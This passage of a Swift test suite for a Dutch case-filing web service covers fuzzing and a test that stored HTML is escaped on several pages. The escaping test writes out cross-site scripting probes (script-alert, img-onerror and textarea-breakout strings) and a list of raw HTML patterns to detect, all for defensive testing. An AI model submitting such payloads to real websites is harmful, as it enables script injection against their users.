            #expect(try await t.api.get("/health/ready").status == 200, "seed \(seed): not ready after fuzzing")
            // (The admin's token from before: the login fuzzing may well have locked the login of the account it used.)
            let admin = targets.first { $0.route == "POST /api/v1/staff" }?.token
            #expect(try await t.api.get("/api/v1/cases", token: admin).status == 200, "seed \(seed): cannot list cases after fuzzing")
            print(
                "FuzzTests: \(sent) requests to \(targets.count) JSON body endpoints (seed \(seed)) in \(ContinuousClock.now - started)"
                    + (outOfTime ? "; stopped drawing random cases after the time budget" : ""))
        }
    }

    func check(_ reply: Reply, _ expect: FuzzExpectation, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
        if reply.status >= 500 {
            Issue.record("\(what): server error \(reply.status): \(reply.text.prefix(300))", sourceLocation: sourceLocation)
            return
        }
        switch expect {
        case .exactly(let status):
            #expect(reply.status == status, "\(what): expected \(status), got \(reply.status): \(reply.text.prefix(300))", sourceLocation: sourceLocation)
        case .clientError:
            #expect((400..<500).contains(reply.status), "\(what): expected a 4xx, got \(reply.status): \(reply.text.prefix(300))", sourceLocation: sourceLocation)
        case .noServerError:
            if (200..<300).contains(reply.status) {
                #expect(reply.contentType.hasPrefix("application/json"), "\(what): success with content type \(reply.contentType)", sourceLocation: sourceLocation)
            }
        }
        if reply.status >= 400, let defect = TrustKit.problemDefect(reply) {
            Issue.record("\(what): \(reply.status) is not a proper problem document: \(defect): \(reply.text.prefix(300))", sourceLocation: sourceLocation)
        }
    }

    /// Stored HTML is shown as text on every page: the party page, the printable ruling,
    /// the staff case page and the filing form that is shown again with its errors.
    @Test func storedHTMLIsEscapedOnThePages() async throws {
        try await withApp { t in
            let script = "<script>alert(1)</script>"
            let image = "\"><img src=x onerror=alert(2)>"
            let textarea = "</textarea><script>alert(3)</script>"
            let raw = ["<script>alert", "<img src=x", "</textarea><script", "<svg onload"]
            func expectEscaped(_ page: Reply, _ name: String, mustShow: [String] = [], sourceLocation: SourceLocation = #_sourceLocation) {
                #expect((200..<300).contains(page.status) || page.status == 422, "\(name): \(page.status) \(page.text.prefix(300))", sourceLocation: sourceLocation)
                #expect(page.contentType.hasPrefix("text/html"), "\(name): \(page.contentType)", sourceLocation: sourceLocation)
                for needle in raw {
                    #expect(!page.text.contains(needle), "\(name) holds raw HTML \(needle.debugDescription): …\(context(page.text, needle))…", sourceLocation: sourceLocation)
                }
                for shown in mustShow {
                    #expect(page.text.contains(shown), "\(name) should show the text escaped as \(shown.debugDescription)", sourceLocation: sourceLocation)
                }
            }
            let escapedScript = "&lt;script&gt;alert(1)&lt;/script&gt;"

            let chair = try await t.member(.bedrijfsarts)
            let intake = try await t.staff(.intakeOfficer).token
            let filed = try await t.api.post(
                "/api/v1/cases",
                object: t.filing([
                    "question": "Mijn vraag \(script) gaat over de belastbaarheid.",
                    "filer": ["name": "Sanne \(image)", "email": "sanne@example.nl"],
                    "employee": ["name": "Sanne \(image)"],
                    "employer": ["name": "Bakkerij \(script)", "kvk_number": "12345678", "address": t.employerAddress],
                    "occupational_physician": ["name": "J. Bakker \(textarea)", "organisation": "ArboNed \(script)"],
                    "medical_information": "Burn-out \(textarea) \(script)",
                ]))
            try #require(filed.status == 201, "\(filed.text.prefix(300))")
            let id = try #require(filed["id"].string)
            let token = try #require(filed["access_token"].string)
            #expect(filed["question"].string?.contains(script) == true, "the API returns the text as stored")
            let pages = try await t.openLink(token)
            expectEscaped(try await t.partyPage("/zaak", cookie: pages), "party page after filing", mustShow: [escapedScript])

            let triage = try await t.api.post(
                "/api/v1/cases/\(id)/triage",
                object: [
                    "decision": "accept", "case_type": "second_opinion", "other_options_exhausted": true, "disciplines": ["bedrijfsarts"],
                    "motivation": "Geweigerd \(script) \(textarea)",
                ], token: intake)
            try #require(triage.status == 200, "\(triage.text.prefix(300))")
            let statement = try await t.api.post("/api/v1/cases/\(id)/statements", object: ["text": "Reactie \(image) \(script)"], token: token)
            #expect(statement.status == 201, "\(statement.text.prefix(300))")
            let ruling = try await t.api.post(
                "/api/v1/cases/\(id)/ruling",
                object: [
                    "outcome": "overturned", "decision": "Besluit \(script) van twintig tekens of meer.",
                    "motivation": "Motivering \(image) \(textarea) lang genoeg.", "medical_considerations": "Medisch \(script) \(textarea)",
                ], token: chair.token)
            try #require(ruling.status == 201, "\(ruling.text.prefix(300))")

            expectEscaped(try await t.partyPage("/zaak", cookie: pages), "party page after the ruling", mustShow: [escapedScript])
            expectEscaped(try await t.partyPage("/zaak/uitspraak", cookie: pages), "printable ruling", mustShow: [escapedScript])
            for (who, staffToken) in [("intake officer", intake), ("chair", chair.token)] {
                let page = try await t.api.request(.get, "/medewerkers/zaken/\(id)", headers: [.cookie: "eenloket_sessie=\(staffToken)"])
                expectEscaped(page, "staff case page (\(who))", mustShow: [escapedScript])
            }

            // The web form: filed through the page, and shown again with its errors.
            let csrf = String(repeating: "d", count: 32)
            func form(_ fields: [(String, String)]) async throws -> Reply {
                let body = (fields + [("csrf", csrf)]).map { "\($0.0)=\($0.1.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!)" }.joined(separator: "&")
                return try await t.api.request(
                    .post, "/vraag/werknemer", json: body,
                    headers: [.cookie: "eenloket_formulier=\(csrf)"], contentType: "application/x-www-form-urlencoded")
            }
            var fields: [(String, String)] = [
                ("filer.name", "Sanne \(image)"), ("filer.email", "sanne@example.nl"), ("employer.name", "Bakkerij \(script)"),
                ("employer.kvk_number", "1234"), ("sick_since", "2026-03-02"), ("question", "Vraag \(script) \(textarea) lang genoeg."),
                ("medical_information", "Medisch \(script)"),
            ]
            let refused = try await form(fields)
            #expect(refused.status == 422, "the form with a bad KvK number: \(refused.status)")
            expectEscaped(refused, "filing form shown again with errors")
            fields[3] = ("employer.kvk_number", "12345678")
            let done = try await form(fields)
            expectEscaped(done, "filing confirmation")
            let webToken = try #require(TrustKit.partyToken(inMessage: done.text), "the confirmation shows the private link: \(done.text.prefix(500))")
            expectEscaped(
                try await t.partyPage("/zaak", cookie: try await t.openLink(webToken)), "party page of the web filing", mustShow: [escapedScript])
        }
    }
}

/// A few characters around the first occurrence of `needle`.
private func context(_ text: String, _ needle: String) -> String {
    guard let range = text.range(of: needle) else { return "" }
    let start = text.index(range.lowerBound, offsetBy: -80, limitedBy: text.startIndex) ?? text.startIndex
    let end = text.index(range.upperBound, offsetBy: 80, limitedBy: text.endIndex) ?? text.endIndex
    return String(text[start..<end])
}
